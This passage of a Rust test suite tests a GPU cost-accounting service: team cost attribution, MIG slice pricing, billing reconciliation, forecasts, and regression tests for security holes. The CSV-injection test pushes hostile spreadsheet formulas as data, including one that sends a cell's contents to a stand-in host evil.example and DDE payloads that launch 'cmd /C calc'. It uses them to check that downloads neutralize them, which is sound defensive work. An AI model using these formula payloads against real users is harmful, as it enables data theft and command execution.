            {"gpu_uuid": T, "ts": "2026-12-02T08:30:00Z", "util_pct": 80.0},
            {"gpu_uuid": T, "ts": "2026-12-02T09:30:00Z", "util_pct": 2.0},
            {"gpu_uuid": T, "ts": "2026-12-02T10:30:00Z", "util_pct": 3.0},
            {"gpu_uuid": T, "ts": "2026-12-02T11:30:00Z", "util_pct": 60.0},
        ],
        "allocations": [
            {"gpu_uuid": T, "start": "2026-12-02T08:00:00Z", "end": "2026-12-02T10:00:00Z", "workload": "nlp/a", "kind": "pod", "team": "nlp"},
            {"gpu_uuid": T, "start": "2026-12-02T09:00:00Z", "end": "2026-12-02T12:00:00Z", "workload": "vision/b", "kind": "pod", "team": "vision"},
            {"gpu_uuid": m1, "start": "2026-12-02T08:00:00Z", "end": null, "workload": "nlp/c", "kind": "pod", "team": "nlp"},
            {"gpu_uuid": m2, "start": "2026-12-02T10:00:00Z", "end": null, "workload": "vision/d", "kind": "pod", "team": "vision"},
        ],
    });
    let (status, reply) = app
        .push(Some(&token), body.to_string().into_bytes(), false)
        .await;
    assert_eq!(status, 200, "{reply}");
    assert_eq!(reply["rejected"], json!([]), "{reply}");
    let window = "from=2026-12-02T08:00:00Z&to=2026-12-02T12:00:00Z";
    let s = app
        .get_json(&format!("/api/v1/summary?group_by=team&{window}"))
        .await;
    let group = |k: &str| {
        s["groups"]
            .as_array()
            .unwrap()
            .iter()
            .find(|g| g["key"] == k)
            .unwrap_or_else(|| panic!("{k}: {s}"))
            .clone()
    };
    let nlp = group("nlp");
    // T: 4 present hours at $0.35; busy 08 (80 %) and 11 (60 %), idle 09 (2 %) and 10 (3 %),
    // all four allocated; allocated-and-idle 09 and 10.
    for (k, v) in [
        ("gpus", json!(1)),
        ("gpu_hours", json!(4)),
        ("busy_hours", json!(2)),
        ("idle_hours", json!(2)),
        ("unknown_hours", json!(0)),
        ("allocated_hours", json!(4)),
        ("allocated_idle_hours", json!(2)),
        ("cost_usd", json!(1.4)),
        ("idle_cost_usd", json!(0.7)),
        ("allocated_idle_cost_usd", json!(0.7)),
    ] {
        assert_eq!(nlp[k], v, "nlp {k}: {nlp}");
    }
    // M: 4 present hours at $4.0966, no whole-GPU activity in MIG mode (unknown, not idle),
    // MIG instances are not extra GPUs and cost nothing on their own; the pods on its
    // instances make all four of its hours allocated (none allocated-and-idle: unknown).
    let vision = group("vision");
    for (k, v) in [
        ("gpus", json!(1)),
        ("gpu_hours", json!(4)),
        ("idle_hours", json!(0)),
        ("unknown_hours", json!(4)),
        ("allocated_hours", json!(4)),
        ("allocated_idle_hours", json!(0)),
        ("cost_usd", json!(16.39)),
        ("idle_cost_usd", json!(0.0)),
    ] {
        assert_eq!(vision[k], v, "vision {k}: {vision}");
    }
    // Used by: T's 09:00 hour split between nlp/a and vision/b; M's 10:00 and 11:00 hours
    // split between the two MIG instances' pods.
    // nlp: T 1 + 0.5 h = $0.525, M 2 + 0.5 + 0.5 h = 3 × $4.0966 = $12.2898 → 4.5 h, $12.81.
    // vision: T 0.5 + 1 + 1 h = $0.875, M 0.5 + 0.5 h = $4.0966 → 3.5 h, $4.97.
    let u = app.get_json(&format!("/api/v1/used-by?{window}")).await;
    let used = |k: &str| {
        u["items"]
            .as_array()
            .unwrap()
            .iter()
            .find(|g| g["team"] == k)
            .unwrap_or_else(|| panic!("{k}: {u}"))
            .clone()
    };
    assert_eq!(
        (
            used("nlp")["gpu_hours"].as_f64(),
            used("nlp")["cost_usd"].as_f64()
        ),
        (Some(4.5), Some(12.81))
    );
    assert_eq!(
        (
            used("vision")["gpu_hours"].as_f64(),
            used("vision")["cost_usd"].as_f64()
        ),
        (Some(3.5), Some(4.97))
    );
    assert_eq!(
        u["items"].as_array().unwrap().len(),
        2,
        "no unallocated hour: {u}"
    );
    // The shares add up to the owners' cost, never more: 1.40 + 16.3864 = $17.79.
    assert_eq!(u["cost_usd"].as_f64(), Some(17.79));
    assert_eq!(s["total"]["cost_usd"].as_f64(), Some(17.79));
    assert_eq!(s["total"]["cost_basis"], "estimate");
    // The bill: host lab-1 billed $10.00 for 08:00–12:00. T and M were present 4 h each in
    // that period, so each gets $5.00: nlp (owner of T) $5.00 billed against its $1.40
    // estimate, vision $5.00 against $16.39. The estimate stays the estimate.
    let bill =
        "ChargePeriodStart,ChargePeriodEnd,BilledCost,EffectiveCost,ResourceId,ChargeDescription\n\
        2026-12-02T08:00:00Z,2026-12-02T12:00:00Z,12.00,10.00,lab-1,GPU server lab-1 (A100 + T4)\n";
    app.store
        .import_billing("lab-bill.csv", bill, now(), false)
        .await
        .unwrap();
    let s = app
        .get_json(&format!("/api/v1/summary?group_by=team&{window}"))
        .await;
    for (team, estimate) in [("nlp", 1.4), ("vision", 16.39)] {
        let g = s["groups"]
            .as_array()
            .unwrap()
            .iter()
            .find(|g| g["key"] == team)
            .unwrap()
            .clone();
        assert_eq!(g["cost_basis"], "reconciled", "{g}");
        assert_eq!(
            (
                g["billed_gpu_hours"].as_i64(),
                g["billed_usd"].as_f64(),
                g["billed_estimate_usd"].as_f64(),
                g["cost_usd"].as_f64()
            ),
            (Some(4), Some(5.0), Some(estimate), Some(estimate)),
            "{team}: {g}"
        );
    }
    assert_eq!(s["total"]["billed_usd"].as_f64(), Some(10.0));
    // A GPU nobody held: its hours are `unallocated`, and the rows still add up to the cost.
    let x = json!({"gpus": [{"uuid": "GPU-14000000-0000-0000-0000-0000000000l4", "model": "NVIDIA L4",
        "labels": {"team": "nlp"}, "observed_at": "2026-12-02T08:00:00Z"}]});
    assert_eq!(
        app.push(Some(&token), x.to_string().into_bytes(), false)
            .await
            .0,
        200
    );
    let u = app.get_json(&format!("/api/v1/used-by?{window}")).await;
    let un = u["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["team"] == "unallocated")
        .cloned();
    // Present 08 and 09 (the 2 h stale window) at $0.8048: 1.6096.
    assert_eq!(
        un.map(|u| (u["gpu_hours"].as_f64(), u["cost_usd"].as_f64())),
        Some((Some(2.0), Some(1.61)))
    );
    assert_eq!(u["cost_usd"].as_f64(), Some(19.4));
}

// ---------------------------------------------------------------------------------------------
// One definition per figure: every page renders the API's figures, under any filter.

/// A fleet with something for every figure, made for the comparison below: A (nlp, prod, aws)
/// idle and allocated with a MIG instance (3g.40gb) from `page_fleet`; B (vision, dev, gcp)
/// missing; C (nlp, dev, aws) seen 13 days ago and now but never measured; D (vision, prod,
/// aws) measured idle every day for 10 days and held by an nlp job; E (vision, dev, gcp) busy.
async fn figures_fleet(app: &App) {
    page_fleet(app).await;
    let token = app.token("lab", &[]).await;
    let c = "GPU-cccccccc-0000-0000-0000-000000000003";
    let d = "GPU-dddddddd-0000-0000-0000-000000000004";
    let e = "GPU-eeeeeeee-0000-0000-0000-000000000005";
    let mut gpus = vec![
        json!({"uuid": c, "model": "NVIDIA A100-SXM4-40GB", "host": "n3", "cluster": "c1", "cloud": "aws",
               "labels": {"team": "nlp", "env": "dev"}, "observed_at": "2026-11-19T08:00:00Z"}),
        json!({"uuid": c, "model": "NVIDIA A100-SXM4-40GB", "host": "n3", "cluster": "c1", "cloud": "aws",
               "labels": {"team": "nlp", "env": "dev"}, "observed_at": "2026-12-02T11:00:00Z"}),
        json!({"uuid": e, "model": "NVIDIA L4", "host": "n5", "cluster": "c2", "cloud": "gcp",
               "labels": {"team": "vision", "env": "dev"}, "observed_at": "2026-11-30T00:00:00Z"}),
    ];
    let mut samples = vec![];
    for day in 22..=32 {
        let date = if day <= 30 {
            format!("2026-11-{day:02}")
        } else {
            format!("2026-12-{:02}", day - 30)
        };
        gpus.push(json!({"uuid": d, "model": "NVIDIA L4", "host": "n4", "cluster": "c1", "cloud": "aws",
                         "labels": {"team": "vision", "env": "prod"}, "observed_at": format!("{date}T09:00:00Z")}));
        samples.push(json!({"gpu_uuid": d, "ts": format!("{date}T09:30:00Z"), "util_pct": 1}));
        samples.push(json!({"gpu_uuid": d, "ts": format!("{date}T10:30:00Z"), "util_pct": 2}));
        if day >= 30 {
            samples.push(json!({"gpu_uuid": e, "ts": format!("{date}T00:30:00Z"), "util_pct": 80}));
        }
    }
    gpus.push(json!({"uuid": d, "model": "NVIDIA L4", "host": "n4", "cluster": "c1", "cloud": "aws",
                     "labels": {"team": "vision", "env": "prod"}, "observed_at": "2026-12-02T11:30:00Z"}));
    let body = json!({
        "gpus": gpus,
        "samples": samples,
        "allocations": [
            {"gpu_uuid": d, "start": "2026-11-30T09:00:00Z", "end": "2026-11-30T11:00:00Z",
             "workload": "train-17", "kind": "slurm_job", "user": "li", "team": "nlp"},
            {"gpu_uuid": d, "start": "2026-11-30T10:00:00Z", "end": "2026-11-30T11:00:00Z",
             "workload": "eval-3", "kind": "slurm_job", "user": "mo"}
        ]
    });
    let (status, reply) = app.push(Some(&token), bytes(&body), false).await;
    assert_eq!(status, 200, "{reply}");
    assert_eq!(reply["rejected"], json!([]), "{reply}");
}

/// A CSV download as rows of (column → cell).
fn csv_rows(text: &str) -> Vec<std::collections::BTreeMap<String, String>> {
    let mut r = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = r.headers().unwrap().iter().map(str::to_string).collect();
    r.records()
        .map(|rec| {
            header
                .iter()
                .cloned()
                .zip(rec.unwrap().iter().map(str::to_string))
                .collect()
        })
        .collect()
}

/// `$1,234.56` → 1234.56; `unknown` / `—` → None.
fn money(s: &str) -> Option<f64> {
    s.replace(['$', ','], "")
        .split_whitespace()
        .next()?
        .parse()
        .ok()
}

/// The text of the element with `id` in a page.
fn by_id<'a>(html: &'a str, id: &str) -> &'a str {
    let start = html
        .find(&format!(r#"id="{id}">"#))
        .unwrap_or_else(|| panic!("no #{id}"))
        + id.len()
        + 6;
    &html[start..start + html[start..].find('<').unwrap()]
}

fn cents(v: f64) -> i64 {
    (v * 100.0).round() as i64
}

#[tokio::test]
async fn every_figure_on_every_page_equals_the_api_under_each_filter() {
    let app = app(WebConfig::default()).await;
    figures_fleet(&app).await;
    for filter in ["team=nlp", "env=dev", "cloud=aws", ""] {
        let q = |extra: &str| {
            let parts: Vec<&str> = [filter, extra]
                .into_iter()
                .filter(|s| !s.is_empty())
                .collect();
            parts.join("&")
        };
        let summary = app
            .get_json(&format!("/api/v1/summary?{}", q("group_by=team")))
            .await;
        let total = &summary["total"];
        let f64_of = |v: &Value| v.as_f64().unwrap();

        // Overview cards and the spend-by-team table.
        let (_, html) = app.get(&format!("/?{}", q(""))).await;
        assert_eq!(
            money(by_id(&html, "cost")).map(cents),
            Some(cents(f64_of(&total["cost_usd"]))),
            "{filter}: overview cost"
        );
        assert_eq!(
            money(by_id(&html, "idle-cost")).map(cents),
            Some(cents(f64_of(&total["idle_cost_usd"]))),
            "{filter}: overview idle cost"
        );
        assert_eq!(
            money(by_id(&html, "alloc-idle-cost")).map(cents),
            Some(cents(f64_of(&total["allocated_idle_cost_usd"]))),
            "{filter}: overview allocated-idle cost"
        );
        assert_eq!(
            by_id(&html, "gpu-hours").replace(',', ""),
            total["gpu_hours"].to_string(),
            "{filter}: overview GPU-hours"
        );
        let (_, csv) = app.get(&format!("/?{}", q("csv=spend-by-team"))).await;
        for row in csv_rows(&csv) {
            let g = summary["groups"]
                .as_array()
                .unwrap()
                .iter()
                .find(|g| g["key"] == row["Team"].as_str())
                .unwrap_or_else(|| panic!("{filter}: no group {}", row["Team"]));
            assert_eq!(
                money(&row["Cost"]).map(cents),
                Some(cents(f64_of(&g["cost_usd"]))),
                "{filter}: {row:?}"
            );
            assert_eq!(
                row["GPU-hours"].replace(',', ""),
                g["gpu_hours"].to_string()
            );
        }

        // The forecast block of the overview and of a team's page: the API's figures, and
        // the month so far is the summary's cost of the month's days.
        let range_of = |text: &str| -> Option<(i64, i64)> {
            let w: Vec<&str> = text.split_whitespace().collect();
            match w.as_slice() {
                ["range", lo, "to", hi] => Some((cents(money(lo)?), cents(money(hi)?))),
                _ => None,
            }
        };
        let month = app
            .get_json(&format!("/api/v1/summary?{}", q("from=2026-12-01")))
            .await;
        for (page, api) in [
            (
                format!("/?{}", q("")),
                format!("/api/v1/forecast?{}", q("")),
            ),
            // A team's page shows that team whatever the team filter says.
            (
                format!("/teams/vision?{}", q("")),
                if filter.starts_with("team=") {
                    "/api/v1/forecast?team=vision".to_string()
                } else {
                    format!("/api/v1/forecast?{}", q("team=vision"))
                },
            ),
        ] {
            let (_, html) = app.get(&page).await;
            let fc = app.get_json(&api).await;
            let ft = &fc["total"];
            assert_eq!(
                money(by_id(&html, "forecast-mtd")).map(cents),
                Some(cents(f64_of(&ft["month_to_date_usd"]))),
                "{filter}: {page}: month so far"
            );
            for (id, key) in [
                ("forecast-month-end", "month_end_usd"),
                ("forecast-next-month", "next_month_usd"),
                ("forecast-next-quarter", "next_quarter_usd"),
            ] {
                let p = &ft[key];
                assert_eq!(
                    money(by_id(&html, id)).map(cents),
                    p["expected"].as_f64().map(cents),
                    "{filter}: {page}: {id}"
                );
                let range = p["low"]
                    .as_f64()
                    .map(|lo| (cents(lo), cents(f64_of(&p["high"]))));
                assert_eq!(
                    range_of(by_id(&html, &format!("{id}-range"))),
                    range,
                    "{filter}: {page}: {id} range"
                );
                if p.is_null() {
                    assert_eq!(by_id(&html, id), "unknown", "{filter}: {page}: {id}");
                }
            }
        }
        let fc = app.get_json(&format!("/api/v1/forecast?{}", q(""))).await;
        assert_eq!(
            cents(f64_of(&fc["total"]["month_to_date_usd"])),
            cents(f64_of(&month["total"]["cost_usd"])),
            "{filter}: the month so far is the summary's"
        );
        if filter.is_empty() {
            assert!(
                fc["total"]["month_end_usd"]["expected"].as_f64().unwrap()
                    > f64_of(&fc["total"]["month_to_date_usd"]),
                "{fc}"
            );
        }

        // Teams: owned figures from the summary, used figures from used-by.
        let used = app.get_json(&format!("/api/v1/used-by?{}", q(""))).await;
        let (_, csv) = app.get(&format!("/teams?{}", q("csv=teams"))).await;
        let rows = csv_rows(&csv);
        assert!(
            rows.iter().all(|r| r["Team"] != "unknown"),
            "{filter}: one bucket, `unowned`, for no team: {rows:?}"
        );
        for row in &rows {
            let team = row["Team"].as_str();
            let owned = summary["groups"]
                .as_array()
                .unwrap()
                .iter()
                .find(|g| g["key"] == team);
            let cost = owned.map(|g| f64_of(&g["cost_usd"])).unwrap_or(0.0);
            assert_eq!(
                money(&row["Cost"]).map(cents),
                Some(cents(cost)),
                "{filter}: {row:?}"
            );
            let u = used["items"]
                .as_array()
                .unwrap()
                .iter()
                .find(|i| i["team"] == team);
            let hours = u.map(|i| f64_of(&i["gpu_hours"])).unwrap_or(0.0);
            let got: f64 = row["GPU-hours used"].parse().unwrap();
            assert!(
                (got - hours).abs() < 0.051,
                "{filter}: {team} used {got} vs API {hours}"
            );
            let ucost = u.map(|i| f64_of(&i["cost_usd"])).unwrap_or(0.0);
            assert_eq!(
                money(&row["Cost of use"]).map(cents),
                Some(cents(ucost)),
                "{filter}: {row:?}"
            );
        }

        // Week over week: each team's activity over `range=7d` and over the `range=7d` that
        // ends where that one starts (midnight UTC seven days back), as the summaries of
        // those weeks say.
        let week = |to: chrono::DateTime<chrono::Utc>| {
            q(&format!(
                "group_by=team&range=7d&to={}",
                to.to_rfc3339_opts(chrono::SecondsFormat::Secs, true)
            ))
        };
        let this = app
            .get_json(&format!("/api/v1/summary?{}", week(now())))
            .await;
        let start = (now() - chrono::Duration::days(7)).timestamp();
        let start = chrono::DateTime::from_timestamp(start - start.rem_euclid(86_400), 0).unwrap();
        assert_eq!(
            this["from"],
            start.to_rfc3339_opts(chrono::SecondsFormat::Secs, true),
            "{this}"
        );
        let last = app
            .get_json(&format!("/api/v1/summary?{}", week(start)))
            .await;
        let activity = |s: &serde_json::Value, team: &str| -> Option<f64> {
            s["groups"]
                .as_array()
                .unwrap()
                .iter()
                .find(|g| g["key"] == team)
                .and_then(|g| g["avg_activity_pct"].as_f64())
        };
        let mut compared = 0;
        for row in &rows {
            let team = row["Team"].as_str();
            let cell = &row["Week over week"];
            match (activity(&this, team), activity(&last, team)) {
                (Some(a), Some(b)) => {
                    let d = a - b;
                    assert!(
                        cell.contains(&format!("{d:+.1} pts")),
                        "{filter}: {team}: {cell} vs {a} and {b}"
                    );
                    compared += 1;
                }
                (Some(a), None) => {
                    assert_eq!(cell, &format!("new ({a:.1} %)"), "{filter}: {team}");
                    compared += 1;
                }
                (None, None) => assert_eq!(cell, "unknown", "{filter}: {team}"),
                (None, Some(_)) => {}
            }
        }
        assert!(compared > 0 || rows.is_empty(), "{filter}: {rows:?}");

        // The team page's total is the summary of the filter and that team.
        let (_, csv) = app
            .get(&format!("/teams/nlp?{}", q("csv=team-by-env")))
            .await;
        let team_total = csv_rows(&csv)
            .into_iter()
            .find(|r| r["Environment"] == "total")
            .unwrap();
        let nlp = app
            .get_json(&format!("/api/v1/summary?{}", q("team=nlp")))
            .await;
        assert_eq!(
            money(&team_total["Cost"]).map(cents),
            Some(cents(f64_of(&nlp["total"]["cost_usd"]))),
            "{filter}: team page total"
        );

        // Usage: the per-day table adds up to the headline.
        let (_, csv) = app.get(&format!("/usage?{}", q("csv=usage-series"))).await;
        let rows = csv_rows(&csv);
        let sum = |col: &str| -> i64 {
            rows.iter()
                .map(|r| r[col].replace(',', "").parse::<i64>().unwrap())
                .sum()
        };
        assert_eq!(
            sum("GPU-hours"),
            total["gpu_hours"].as_i64().unwrap(),
            "{filter}: usage"
        );
        assert_eq!(
            sum("Idle h"),
            total["idle_hours"].as_i64().unwrap(),
            "{filter}: usage idle"
        );
        assert_eq!(
            sum("Allocated h"),
            total["allocated_hours"].as_i64().unwrap(),
            "{filter}"
        );

        // Waste: the total is the savings API's, and unknown activity is never idle.
        let savings = app.get_json(&format!("/api/v1/savings?{}", q(""))).await;
        let (_, waste) = app.get(&format!("/waste?{}", q(""))).await;
        assert_eq!(
            money(by_id(&waste, "waste-total")).map(|v| v.round() as i64),
            Some(f64_of(&savings["usd_per_month"]).round() as i64),
            "{filter}: waste total"
        );
        // The Overview's top inefficiencies are the savings list's first eight, in its order
        // (the Overview writes only those).
        let (_, top) = app.get(&format!("/?{}", q("csv=top-inefficiencies"))).await;
        let top = csv_rows(&top);
        let items = savings["items"].as_array().unwrap();
        assert!(!items.is_empty(), "{filter}: no finding to compare");
        assert_eq!(
            top.len(),
            items.len().min(8),
            "{filter}: top inefficiencies"
        );
        for (row, item) in top.iter().zip(items) {
            for (col, key) in [("Finding", "kind"), ("Where", "what"), ("Why", "detail")] {
                assert_eq!(
                    row[col].trim(),
                    item[key].as_str().unwrap(),
                    "{filter}: top inefficiencies, {col}"
                );
            }
        }
        for item in savings["items"].as_array().unwrap() {
            if item["what"]
                .as_str()
                .unwrap()
                .contains("A100-SXM4-40GB on n3")
            {
                assert_eq!(item["kind"], "no activity data", "{filter}: {item}");
                assert_eq!(item["usd_per_month"], Value::Null, "{filter}: {item}");
            }
        }

        // Inventory rows add up to the summary, and each GPU's own page (following the row's
        // link, which carries the range) shows the same cost.
        let (_, inv_html) = app.get(&format!("/inventory?{}", q(""))).await;
        let (_, csv) = app.get(&format!("/inventory?{}", q("csv=inventory"))).await;
        let mut inv_total = 0.0;
        for row in csv_rows(&csv) {
            let uuid = row["GPU"].trim().to_string();
            if uuid.starts_with("MIG-") {
                continue;
            }
            let cost = money(&row["Cost"]);
            inv_total += cost.unwrap_or(0.0);
            let at = inv_html.find(&format!(r#"href="/gpus/{uuid}?"#)).unwrap();
            let href = &inv_html[at + 6..at + 6 + inv_html[at + 6..].find('"').unwrap()];
            let (_, gpu) = app.get(&href.replace("&#38;", "&")).await;
            assert_eq!(
                money(by_id(&gpu, "cost")).map(cents),
                cost.map(cents),
                "{filter}: {uuid}"
            );
        }
        assert_eq!(
            cents(inv_total),
            cents(f64_of(&total["cost_usd"])),
            "{filter}: inventory"
        );
    }

    // The savings list: the unmeasured A100 is its own finding; the measured idle L4 is idle.
    let s = app.get_json("/api/v1/savings").await;
    let items = s["items"].as_array().unwrap();
    let kind_of = |host: &str| -> Vec<String> {
        items
            .iter()
            .filter(|i| i["what"].as_str().unwrap().ends_with(host))
            .map(|i| i["kind"].as_str().unwrap().to_string())
            .collect()
    };
    assert_eq!(kind_of("on n3"), ["no activity data"]);
    assert_eq!(kind_of("on n4"), ["idle GPU"]);

    // A MIG instance's page prices its 3 of 7 slices of the H100, not a whole GPU.
    let (_, mig) = app
        .get("/gpus/MIG-aaaaaaaa-0000-0000-0000-0000000000a1")
        .await;
    assert!(mig.contains("3 of 7 slices"), "{mig}");
    let parent = app.get_json(&format!("/api/v1/gpus/{A}")).await;
    let rate = parent["usd_per_hour"].as_f64().unwrap();
    assert!(
        mig.contains(&format!("${:.4}/h", rate * 3.0 / 7.0)),
        "{mig}"
    );
    // The API gives the same figures the page shows.
    let api = app
        .get_json("/api/v1/gpus/MIG-aaaaaaaa-0000-0000-0000-0000000000a1")
        .await;
    let fig = &api["figures"];
    assert!((fig["usd_per_hour"].as_f64().unwrap() - rate * 3.0 / 7.0).abs() < 1e-9);
    assert_eq!(
        money(by_id(&mig, "cost")).map(cents),
        fig["cost_usd"].as_f64().map(cents)
    );
}

/// `/readyz` answers 200 while the database answers and 503 once it does not; `/healthz`
/// stays 200 (liveness must not depend on the database). Neither needs a token.
#[tokio::test]
async fn ops_readyz_follows_the_database() {
    let app = app(WebConfig {
        read_requires_token: true,
        ..WebConfig::default()
    })
    .await;
    let (status, body) = app.get("/readyz").await;
    assert_eq!((status, body.as_str()), (200, "ready\n"));
    app.store.close().await;
    let (status, body) = app.get("/readyz").await;
    assert_eq!(status, 503, "{body}");
    assert!(body.contains("database"), "{body}");
    assert_eq!(app.get("/healthz").await.0, 200);
}

// ---------------------------------------------------------------------------------------------
// Regressions of issue 14 (holes found by probing as an attacker would).

/// Cells a spreadsheet would run as a formula (OWASP's CSV-injection list).
fn formula_like(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// A cell that is a number as shown (`-12`, `-$1,234.50`, `-3.5 %`): a spreadsheet reads it as
/// a number, never as a formula.
fn shown_number(cell: &str) -> bool {
    let digits = cell.trim_end_matches(" %").replace(['$', ','], "");
    digits.parse::<f64>().is_ok_and(f64::is_finite)
}

/// Every table link (`?csv=<id>`) on a page.
fn csv_links(html: &str) -> Vec<String> {
    html.split("href=\"")
        .skip(1)
        .filter_map(|s| s.split('"').next())
        .filter(|h| h.contains("csv="))
        .map(|h| h.replace("&#38;", "&").replace("&amp;", "&"))
        .collect()
}

/// Issue 14: a label or model starting with `=`, `+`, `-`, `@`, tab or CR was written raw at
/// the start of a cell in every CSV download, so opening the download ran it as a formula.
#[tokio::test]
async fn csv_formula_injection_is_neutralized_in_every_download() {
    let app = app(WebConfig::default()).await;
    let token = app.token("-src", &[]).await;
    let model = r#"=HYPERLINK("http://evil.example/?d="&A1,"details")"#;
    let body = json!({
        "gpus": [{"uuid": A, "model": model, "host": "@SUM(1+1)", "cluster": "\t=1+1",
                  "cloud": "aws", "region": "\r=2+2",
                  "labels": {"team": "+team", "env": "-2+3+cmd|' /C calc'!A0"},
                  "observed_at": "2026-12-02T10:30:00Z"}],
        "samples": [{"gpu_uuid": A, "ts": "2026-12-02T10:40:00Z", "util_pct": 1}],
        "allocations": [{"gpu_uuid": A, "start": "2026-12-02T10:00:00Z", "workload": "=cmd|' /C calc'!A0",
                         "kind": "pod", "user": "@user", "team": "-used"}]
    });
    let (status, reply) = app.push(Some(&token), bytes(&body), false).await;
    assert_eq!(status, 200, "{reply}");
    assert_eq!(reply["rejected"], json!([]), "{reply}");

    let mut downloads: Vec<String> = vec![
        "/api/v1/gpus?format=csv".into(),
        format!("/api/v1/gpus/{A}?format=csv"),
        "/api/v1/sources?format=csv".into(),
    ];
    for by in ["team", "env", "cloud", "cluster", "model"] {
        downloads.push(format!("/api/v1/summary?group_by={by}&format=csv"));
    }
    let team = app.get_json("/api/v1/gpus").await["items"][0]["team"]
        .as_str()
        .unwrap()
        .to_string();
    for page in [
        "/".to_string(),
        "/inventory".into(),
        format!("/gpus/{A}"),
        "/teams".into(),
        format!(
            "/teams/{}",
            form_urlencoded::byte_serialize(team.as_bytes()).collect::<String>()
        ),
        "/usage".into(),
        "/waste".into(),
        "/sources".into(),
    ] {
        let (status, html) = app.get(&page).await;
        assert_eq!(status, 200, "{page}: {html}");
        let links = csv_links(&html);
        assert!(!links.is_empty() || page == "/", "{page} has no CSV link");
        downloads.extend(links);
    }
    let mut neutralized = std::collections::BTreeSet::new();
    for path in &downloads {
        let (status, text) = app.get(path).await;
        assert_eq!(status, 200, "{path}: {text}");
        let mut r = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(text.as_bytes());
        for rec in r.records() {
            for cell in rec.unwrap().iter() {
                assert!(
                    !formula_like(cell) || shown_number(cell),
                    "{path}: cell {cell:?} would run as a formula\n{text}"
                );
                if cell.starts_with('\'') && formula_like(&cell[1..]) {
                    neutralized.insert(cell.to_string());
                }
            }
        }
        // Neutralized cells stay quoted, so no reader splits them.
        for line in text
            .lines()
            .filter(|l| l.contains(",'") || l.starts_with('\''))
        {
            assert!(
                !line.starts_with('\'') && !line.contains(",'"),
                "{path}: unquoted neutralized cell in {line:?}"
            );
        }
    }
    assert!(
        neutralized.contains(&format!("'{model}")),
        "the model is kept, prefixed: {neutralized:?}"
    );
    for value in ["'@SUM(1+1)", "'\t=1+1", "'+team"] {
        assert!(
            neutralized.contains(value),
            "{value:?} not in {neutralized:?}"
        );
    }
    // The JSON API keeps the value as pushed: only CSV cells are neutralized.
    assert_eq!(
        app.get_json("/api/v1/gpus").await["items"][0]["model"],
        model
    );
}

/// Issue 14: a 1 MB field name was echoed whole in the rejection and kept in the source's
/// `last_error`, making the reply and the sources page megabytes.
#[tokio::test]
async fn ingest_a_huge_field_name_is_not_echoed_in_the_rejection_or_last_error() {
    let app = app(WebConfig::default()).await;
    let token = app.token("big", &[]).await;
    let huge = "k".repeat(1 << 20);
    let body = format!(
        r#"{{"{huge}": [],
            "gpus": [{{"uuid": "{A}", "model": "T4", "labels": {{"{huge}": "v"}}, "observed_at": "2026-12-02T10:30:00Z"}},
                     {{"uuid": "{B}", "model": "T4", "{huge}": 1, "observed_at": "2026-12-02T10:30:00Z"}}],
            "samples": [{{"gpu_uuid": "{A}", "ts": "2026-12-02T10:40:00Z", "util_pct": "{huge}"}}]}}"#
    );
    // Nothing in it can be kept (issue 19: 422, not 200), and the unknown list name refuses
    // it whole; every rejection is still named.
    let (status, reply) = app
        .push(Some(&token), body.clone().into_bytes(), false)
        .await;
    assert_eq!(status, 422, "{reply}");
    let rejected = reply["rejected"].as_array().unwrap();
    assert_eq!(rejected.len(), 4, "{reply}");
    for r in rejected {
        let (path, reason) = (r["path"].as_str().unwrap(), r["reason"].as_str().unwrap());
        assert!(path.chars().count() <= 200, "path of {} chars", path.len());
        assert!(
            reason.chars().count() <= 500,
            "reason of {} chars",
            reason.len()
        );
        assert!(!path.contains(&"k".repeat(101)) && !reason.contains(&"k".repeat(101)));
        assert!(
            path.contains('…') || reason.contains('…'),
            "a cut echo says so: {path}: {reason}"
        );
    }
    // What to fix is still said.
    let text = reply["rejected"].to_string();
    assert!(text.contains("unknown field"), "{text}");
    assert!(text.contains("expected one of"), "{text}");
    // A malformed body never reaches the store; its records alone do, and are refused there
    // with the source's last error kept.
    let records = body.replacen(&format!(r#""{huge}": [],"#), "", 1);
    let (status, reply) = app.push(Some(&token), records.into_bytes(), false).await;
    assert_eq!(status, 422, "{reply}");
    assert_eq!(reply["rejected"].as_array().unwrap().len(), 3, "{reply}");
    let sources = app.get_json("/api/v1/sources").await;
    let last_error = sources["items"][0]["last_error"].as_str().unwrap();
    assert!(
        last_error.len() < 1000,
        "last_error of {} bytes",
        last_error.len()
    );
    let (status, page) = app.get("/sources").await;
    assert_eq!(status, 200);
    assert!(page.len() < 100_000, "sources page of {} bytes", page.len());
    // Values from the URL are cut the same way in error answers.
    let (status, reply) = app
        .get(&format!("/api/v1/gpus/GPU-{}", "0".repeat(4000)))
        .await;
    assert_eq!(status, 404);
    assert!(reply.len() < 400, "{} bytes", reply.len());
}

/// Issue 14: a GPU `observed_at` or an allocation `start` decades in the past was accepted and
/// wrote hour rows for 1970. A GPU observation older than the raw retention (the samples' floor)
/// and an allocation starting before the rollup retention are refused with the reason; a pod
/// running for longer than the raw retention is not.
#[tokio::test]
async fn ingest_timestamps_of_1970_are_refused_with_the_retention_named() {
    let app = app(WebConfig::default()).await;
    let token = app.token("old", &[]).await;
    let body = json!({
        "gpus": [
            {"uuid": A, "model": "T4", "observed_at": "1970-01-01T00:00:00Z"},
            {"uuid": B, "model": "T4", "observed_at": "2026-11-10T00:00:00Z"},
            {"uuid": "GPU-cccccccc-0000-0000-0000-000000000003", "model": "T4", "observed_at": "2026-12-02T11:00:00Z"}
        ],
        "allocations": [
            {"gpu_uuid": "GPU-cccccccc-0000-0000-0000-000000000003", "start": "1970-01-01T00:00:00Z", "workload": "ns/ancient", "kind": "pod"},
            {"gpu_uuid": "GPU-cccccccc-0000-0000-0000-000000000003", "start": "2026-10-01T00:00:00Z", "workload": "ns/serving", "kind": "pod"}
        ]
    });
    let (status, reply) = app.push(Some(&token), bytes(&body), false).await;
    assert_eq!(status, 200, "{reply}");
    let rejected: Vec<(String, String)> = reply["rejected"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            (
                r["path"].as_str().unwrap().into(),
                r["reason"].as_str().unwrap().into(),
            )
        })
        .collect();
    let paths: Vec<&str> = rejected.iter().map(|r| r.0.as_str()).collect();
    assert_eq!(
        paths,
        [
            "allocations[0].start",
            "gpus[0].observed_at",
            "gpus[1].observed_at"
        ],
        "{reply}"
    );
    assert!(
        rejected[0].1.contains("rollup retention (730 days)"),
